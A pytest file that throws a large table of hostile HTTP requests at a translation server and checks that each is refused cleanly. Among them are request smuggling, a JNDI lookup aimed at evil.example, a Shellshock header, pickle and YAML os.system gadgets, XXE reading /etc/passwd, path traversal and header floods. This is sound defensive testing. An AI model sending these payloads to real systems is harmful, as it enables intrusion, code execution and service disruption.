"""Requests that attack: the server refuses each, says nothing of tfm's inside, and translates on."""

import json
import random
import socket
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from tests.addons.serving.served import Answer, Served, read_answer, serving
from tests.support.each import each

LIMITS = ("limits.receive_seconds=1", "limits.seconds=20", "limits.body_bytes=200000", "limits.head_bytes=16384")
Attack = Callable[[random.Random], bytes]
HOST = b"Host: localhost\r\n"


def post(body: bytes, *headers: bytes, path: bytes = b"/api/translate") -> bytes:
    length = (
        b"" if any(b"ength" in one or b"ncoding: " in one for one in headers) else b"Content-Length: %d" % len(body)
    )
    lines = [b"POST " + path + b" HTTP/1.1", b"Host: localhost", b"Connection: close", *headers, length]
    return b"\r\n".join([line for line in lines if line] + [b"", b""]) + body


def get(path: bytes, *headers: bytes, method: bytes = b"GET") -> bytes:
    return b"\r\n".join(
        [method + b" " + path + b" HTTP/1.1", b"Host: localhost", b"Connection: close", *headers, b"", b""]
    )


def chunked(*chunks: bytes) -> bytes:
    return post(b"".join(chunks), b"Transfer-Encoding: chunked")


# What each may be answered with; 0: nothing. A row is a name, the bytes of a connection, and the statuses.
JSON_BODIES: dict[str, bytes] = {
    "no JSON": b"text=a",
    "nothing": b"",
    "a number": b"1",
    "null": b"null",
    "a list": b'["a"]',
    "a bomb of brackets": b"[" * 100_000,
    "a bomb of objects": b'{"a":' * 30_000,
    "closed brackets": b"[" * 50_000 + b"]" * 50_000,
    "a text in deep lists": b'{"text":' + b"[" * 900 + b'"a"' + b"]" * 900 + b"}",
    "a huge number": b'{"text":"a","beam_size":' + b"9" * 5000 + b"}",
    "a huge exponent": b'{"text":"a","length_penalty":1e999999}',
    "not a number": b'{"text":"a","length_penalty":NaN}',
    "cut": b'{"text":"a',
    "bytes after it": b'{"text":"a"} {"text":"b"}',
    "broken UTF-8": b'{"text":"\xff\xfe\x80"}',
    "UTF-16": '{"text":"a"}'.encode("utf-16"),
    "a control character": b'{"text":"a\x00\x1b[2J"}',
    "no text": b"{}",
    "a number as text": b'{"text":1}',
    "an object as text": b'{"text":{"a":1}}',
    "a list of lists": b'{"text":[["a"]]}',
    "an unknown key": b'{"text":"a","__class__":"x"}',
    "a dunder in terms": b'{"text":"a","terms":{"__init__":{"a":1}}}',
    "a path as language": b'{"text":"a","source":"../../etc/passwd"}',
    "a huge beam": b'{"text":"a","beam_size":1000000}',
    "a negative beam": b'{"text":"a","beam_size":-1}',
    "a switch that is none": b'{"text":"a","alignments":"yes"}',
    "an unknown language": b'{"text":"a","target":"tlh"}',
    "too long a text": json.dumps({"text": "a " * 15_000}).encode(),
    "too many texts": json.dumps({"text": ["a"] * 501}).encode(),
    "half a character as search": rb'{"text":"a","search":"\ud800"}',
    "half a character as a key": rb'{"text":"a","\ud800":1}',
    "half a character as language": rb'{"text":"a","target":"\udfff"}',
    "a long language": json.dumps({"text": "a", "source": "x" * 100_000}).encode(),
    "a long search": json.dumps({"text": "a", "search": "x" * 100_000}).encode(),
    "a long tag": json.dumps({"text": "a", "tag": "<2" + "x" * 100_000 + ">"}).encode(),
    "a long key": json.dumps({"text": "a", "x" * 100_000: 1}).encode(),
    "a long term": json.dumps({"text": "a", "terms": {"a": "b " * 3000}}).encode(),
    "many terms": json.dumps({"text": "a", "terms": {f"a{n}": "b" for n in range(2000)}}).encode(),
    "a line with a model's file": b'{"text":"a","checkpoint":"/etc/passwd"}',
    "compressed": zlib.compress(b'{"text":"a"}'),
}
ATTACKS: dict[str, tuple[Attack, tuple[int, ...]]] = {
    **{name: (lambda _, body=body: post(body), (400, 413)) for name, body in JSON_BODIES.items()},  # type: ignore[misc]
    "a lone surrogate": (lambda _: post(rb'{"text":"\ud800 a"}'), (400,)),
    "terminal escapes": (lambda _: post(rb'{"text":"\u001b]0;x\u0007 \u0000"}'), (200,)),
    "a gzip body": (lambda _: post(zlib.compress(b"{}"), b"Content-Encoding: gzip"), (400,)),
    "a body too large": (lambda _: post(b"x" * 200_001), (413,)),
    "a body said to be too large": (lambda _: post(b"", b"Content-Length: 99999999999"), (413,)),
    "a length beyond 64 bits": (lambda _: post(b"", b"Content-Length: " + b"9" * 30), (400,)),
    "a negative length": (lambda _: post(b"", b"Content-Length: -1"), (400,)),
    "a length in words": (lambda _: post(b"{}", b"Content-Length: two"), (400,)),
    "two lengths": (lambda _: post(b"{}", b"Content-Length: 2", b"Content-Length: 3"), (400,)),
    "length and chunks": (lambda _: post(b"0\r\n\r\n", b"Content-Length: 5", b"Transfer-Encoding: chunked"), (400,)),
    "chunks of no length": (lambda _: chunked(b"zz\r\n{}\r\n0\r\n\r\n"), (400,)),
    "a chunk of huge length": (lambda _: chunked(b"F" * 30 + b"\r\n{}"), (400,)),
    "a chunk without an end": (lambda _: chunked(b"2\r\n{}XX0\r\n\r\n"), (400,)),
    "chunks beyond the limit": (lambda _: chunked(*[b"10000\r\n" + b"x" * 65536 + b"\r\n"] * 5), (413,)),
    "an unknown encoding": (lambda _: post(b"{}", b"Transfer-Encoding: gzip, rot13"), (400,)),
    "an encoding before chunks": (lambda _: post(b"0\r\n\r\n", b"Transfer-Encoding: x, chunked"), (400,)),
    "chunks twice": (
        lambda _: post(b"0\r\n\r\n", b"Transfer-Encoding: chunked", b"Transfer-Encoding: chunked"),
        (400,),
    ),
    "a chunk extension without an end": (lambda _: chunked(b"2;" + b"x" * 40_000), (400,)),
    "extensions of many chunks": (lambda _: chunked(*[b"1;" + b"x" * 900 + b"\r\n{\r\n"] * 90, b"0\r\n\r\n"), (400,)),
    "headers behind a body": (
        lambda _: chunked(b"2\r\n{}\r\n0\r\n", *[b"X-%d: y\r\n" % n for n in range(5000)], b"\r\n"),
        (400, 431),
    ),
    "hidden chunks": (lambda _: post(b"0\r\n\r\n", b"Transfer-Encoding:\x0bchunked"), (400,)),
    "smuggled request": (
        lambda _: post(b"0\r\n\r\nGET /metrics HTTP/1.1\r\n\r\n", b"Content-Length: 4", b"Transfer-Encoding : chunked"),
        (400,),
    ),
    "a folded header": (lambda _: get(b"/health", b"X-A: b", b" c"), (200, 400)),
    "a null in a header": (lambda _: get(b"/health", b"X-A: \x00"), (400,)),
    "a header without a name": (lambda _: get(b"/health", b": x"), (400,)),
    "bytes in a header": (
        lambda draw: get(b"/health", b"X-A: " + draw.randbytes(20).hex().encode() + b"\xff"),
        (200, 400),
    ),
    "two hosts": (lambda _: get(b"/health", b"Host: other"), (400,)),
    **{
        f"a host that is none: {host.decode()}": (
            lambda _, host=host: b"GET /api/models HTTP/1.1\r\nHost: %s\r\n\r\n" % host,  # type: ignore[misc]
            (400,),
        )
        for host in (
            b"localhost:x",
            b"[::1]evil.example",
            b"localhost:80:81",
            b"evil@localhost",
            b"localhost/",
            b"[::1",
        )
    },
    "no host": (lambda _: b"GET /health HTTP/1.1\r\n\r\n", (400,)),
    "another site's name": (lambda _: b"GET /api/models HTTP/1.0\r\nHost: evil.example\r\n\r\n", (421,)),
    "a header flood": (lambda draw: get(b"/health", *[b"X-%d: y" % n for n in range(draw.randint(101, 3000))]), (431,)),
    "a huge header": (lambda draw: get(b"/health", b"X: " + b"y" * draw.randint(17_000, 1_000_000)), (431,)),
    "a huge address": (lambda draw: get(b"/" + b"a" * draw.randint(8200, 500_000)), (414, 431)),
    "a huge query": (lambda _: get(b"/health?" + b"a=b&" * 5000), (414, 431)),
    "a huge method": (lambda _: get(b"/", method=b"A" * 100_000), (400,)),
    "a path upwards": (lambda _: get(b"/../../../../etc/passwd"), (404,)),
    "a coded path upwards": (lambda _: get(b"/%2e%2e/%2e%2e/etc/passwd"), (404,)),
    "a null in the path": (lambda _: get(b"/api/models%00.html"), (404,)),
    "a line end in the path": (lambda _: get(b"/a%0d%0aSet-Cookie:%20x=1"), (404,)),
    "bytes in the path": (lambda _: get(b"/\xff\xfe"), (400, 404)),
    "broken UTF-8 in the path": (lambda _: get(b"/%ff%fe%c0%af"), (404,)),
    "an address elsewhere": (lambda _: get(b"http://evil.example/x"), (404,)),
    "a proxy's request": (lambda _: get(b"evil.example:443", method=b"CONNECT"), (400,)),
    "a star": (lambda _: get(b"*", method=b"OPTIONS"), (400, 404)),
    "the wrong method": (lambda _: get(b"/api/translate", method=b"DELETE"), (405,)),
    "TRACE": (lambda _: get(b"/health", method=b"TRACE"), (405,)),
    "an unknown method": (lambda _: get(b"/", method=b"HACK"), (400,)),
    "HTTP/0.9": (lambda _: b"GET /\r\n\r\n", (200, 400, 404)),
    "HTTP/9.9": (lambda _: b"GET / HTTP/9.9\r\n\r\n", (400,)),
    "HTTP/2": (lambda _: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", (400,)),
    "TLS": (lambda draw: b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + draw.randbytes(300), (400,)),
    "SSH": (lambda _: b"SSH-2.0-OpenSSH_9.6\r\n", (400,)),
    "SOCKS": (lambda _: b"\x05\x01\x00", (400,)),
    "SMTP": (lambda _: b"EHLO example.org\r\n", (400,)),
    "noise": (lambda draw: b"\x00" + draw.randbytes(draw.randint(1, 5000)), (400,)),
    "a WebSocket": (
        lambda _: (
            b"GET /api/models HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n\x81\x05hello"
        ),
        (200,),
    ),
    "h2c": (lambda _: get(b"/health", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__"), (200,)),
    "Expect": (lambda _: post(b"{}", b"Expect: 100-continue"), (400,)),
    "Expect of a large body": (lambda _: post(b"", b"Content-Length: 300000", b"Expect: 100-continue"), (413,)),
    "Expect of something else": (lambda _: post(b"{}", b"Expect: a miracle"), (400,)),
    "pipelined": (lambda _: (b"GET /health HTTP/1.1\r\n" + HOST + b"\r\n") * 5 + get(b"/health"), (200,)),
    "a pipelined flood": (lambda _: (b"GET /health HTTP/1.1\r\n" + HOST + b"\r\n") * 3000, (0, 200, 429)),
    "only line ends": (lambda _: b"\r\n" * 1000, (0,)),
    "nothing at all": (lambda _: b"", (0,)),
    "half a head": (lambda _: b"GET /health HTTP/1.1\r\nHost: loc", (0, 408)),
    "half a body": (lambda _: post(b'{"te', b"Content-Length: 20"), (0, 408, 499)),
    "half a chunk": (lambda _: chunked(b'5\r\n{"te'), (0, 408, 499)),
    "another server's key": (lambda _: post(b"{}", b"Authorization: Negotiate " + b"A" * 3000), (400,)),
    "a template": (lambda _: get(b"/${jndi:ldap://evil.example/a}"), (400, 404)),
    "a shell": (lambda _: get(b"/", b"User-Agent: () { :; }; touch /tmp/owned"), (200, 404)),
    "a pickle": (lambda _: post(b"\x80\x04\x95cos\nsystem\n(S'touch owned'\ntR."), (400,)),
    "YAML": (lambda _: post(b"!!python/object/apply:os.system ['touch owned']"), (400,)),
    "XML entities": (lambda _: post(b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'), (400,)),
    "a form": (lambda _: post(b"text=a&source=en", b"Content-Type: application/x-www-form-urlencoded"), (400,)),
}
SLOW = ("only line ends", "nothing at all", "half a head", "half a body", "half a chunk")


def send(served: Served, data: bytes, *, half_closes: bool = False) -> Answer:
    """Bytes on a connection of their own; a server that hangs up is answer enough."""
    with served.connect(timeout=15) as connection:
        try:
            connection.sendall(data)
            if half_closes:
                connection.shutdown(socket.SHUT_WR)
        except OSError:
            pass  # it has read enough
        return read_answer(connection)


def check(served: Served, name: str, draw: random.Random) -> int:
    attack, expected = ATTACKS[name]
    answer = send(served, attack(draw), half_closes=name in SLOW and draw.random() < 0.9)
    assert answer.status in expected, f"{name}: {answer}"
    if answer.status >= 400 and answer.headers.get("content-length") != "0":
        assert list(answer.json) == ["error"], f"{name}: {answer}"
        assert "Traceback" not in answer.json["error"]
        assert ".py" not in answer.json["error"]
        assert answer.json["error"].isprintable()
        assert len(answer.json["error"]) <= 1200
    return answer.status


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serving(tmp_path_factory.mktemp("hostile"), *LIMITS) as one:
        yield one


ENDPOINTS = (
    *("/translate", "/detect", "/translate_file", "/suggest", "/v2/translate", "/v2/usage", "/translator/translate"),
    "/api/attention",
)
FORM = b"Content-Type: application/x-www-form-urlencoded"
PARTS = b"Content-Type: multipart/form-data; boundary=b"
FORMS: dict[str, tuple[bytes, bytes]] = {
    "a flood of fields": (FORM, b"&".join(b"q%d=a" % n for n in range(20_000))),
    "the same field": (FORM, b"q=a&" * 20_000),
    "broken codes": (FORM, b"q=%&q=%zz&q=%ff%fe&%00=%00"),
    "no equals": (FORM, b"&&&&====" * 1000),
    "parts without an end": (PARTS, b'--b\r\nContent-Disposition: form-data; name="q"\r\n\r\na'),
    "a flood of parts": (PARTS, b'--b\r\nContent-Disposition: form-data; name="q"\r\n\r\na\r\n' * 2000 + b"--b--"),
    "a part with a flood of headers": (PARTS, b"--b\r\n" + b"X: y\r\n" * 20_000 + b"\r\n\r\n--b--"),
    "a file with a path": (
        PARTS,
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="../../../tmp/owned.txt"\r\n\r\na\r\n--b--\r\n',
    ),
    "no boundary": (b"Content-Type: multipart/form-data", b"--b--"),
    "a huge boundary": (b"Content-Type: multipart/form-data; boundary=" + b"b" * 10_000, b"--b--"),
    "an unknown charset": (b"Content-Type: application/json; charset=rot13", b"{}"),
}


@each("endpoint", ENDPOINTS)
def test_no_body_is_a_fault_of_any_api(served: Served, endpoint: str) -> None:
    kind = b"Content-Type: application/json"
    cases = [(kind, body) for body in JSON_BODIES.values()]
    # As each API names its text.
    cases += [(kind, body.replace(b'"text"', b'"q"')) for body in JSON_BODIES.values()]
    cases += [(kind, b"[" + body.replace(b'"text"', b'"src"') + b"]") for body in JSON_BODIES.values()]
    for header, body in [*cases, *FORMS.values()]:
        answer = send(served, post(body, header, path=endpoint.encode()))
        assert 200 <= answer.status < 500, f"{body[:80]!r}: {answer}"
        assert b"Traceback" not in answer.body
    is_clean(served)


def test_all_requests_of_a_connection_are_answered_in_their_order(served: Served) -> None:
    bodies = [json.dumps({"text": f"a {'b ' * (n % 5)}c"}).encode() for n in range(40)]
    requests = [
        post(body).replace(b"Connection: close\r\n", b"" if n < 39 else b"Connection: close\r\n")
        for n, body in enumerate(bodies)
    ]
    with served.connect(timeout=20) as connection:
        connection.sendall(b"".join(requests))
        stream = connection.makefile("rb").read()
    answers = [part.partition(b"\r\n\r\n")[2] for part in stream.split(b"HTTP/1.1 200 OK\r\n")[1:]]
    expected = [served.ask("/api/translate", body).json for body in bodies]
    assert [json.loads(answer) for answer in answers] == expected


def test_what_came_before_a_request_that_is_none_is_answered(served: Served) -> None:
    good = post(json.dumps({"text": "a b"}).encode()).replace(b"Connection: close\r\n", b"")
    with served.connect(timeout=20) as connection:
        connection.sendall(good * 3 + b"\x00\x01 no request\r\n\r\n")
        stream = connection.makefile("rb").read()
    assert stream.count(b"HTTP/1.1 200 OK") == 3


@pytest.mark.slow
def test_ten_thousand_attacks_leave_the_server_as_it_was(served: Served, figures: Callable[[str, str], None]) -> None:
    texts = ["a b c", "d e", "j i h g f"]
    before = [served.translate(text).json["translations"] for text in texts]
    draw = random.Random(2)
    names = [name for name in ATTACKS for _ in range(1 if name in SLOW else 40)]
    statuses: Counter[int] = Counter()
    memory = []
    for _ in range(4):
        chosen = draw.sample(names, 2500, counts=[2] * len(names))
        with ThreadPoolExecutor(32) as pool:
            statuses.update(pool.map(lambda name: check(served, name, random.Random(draw.random())), chosen))
        memory.append(served.memory())
        assert [served.translate(text).json["translations"] for text in texts] == before
    assert memory[-1] < memory[0] * 1.03 + 2e6, memory
    figures("10,000 hostile requests", f"{dict(statuses)}, resident {memory[0] / 1e6:.0f} → {memory[-1] / 1e6:.0f} MB")
    end = time.monotonic() + 10
    while served.metric("tfm_connections") > 1 and time.monotonic() < end:
        time.sleep(0.1)
    assert served.metric("tfm_connections") == 1
    is_clean(served)


def is_clean(served: Served) -> None:
    """No fault of ours, and one line for each request."""
    for line in served.log:
        assert "Traceback" not in line
        assert "fault" not in line, line
        assert "Error" not in line, line
        assert line.isprintable(), line
    assert not list(Path("/tmp").glob("owned"))


def test_each_attack_is_refused_with_one_line_and_the_next_request_is_answered(served: Served) -> None:
    before = served.translate("a b c").json["translations"]
    draw = random.Random(1)
    with ThreadPoolExecutor(16) as pool:
        list(pool.map(lambda name: check(served, name, random.Random(draw.random())), ATTACKS))
    assert served.translate("a b c").json["translations"] == before
    is_clean(served)
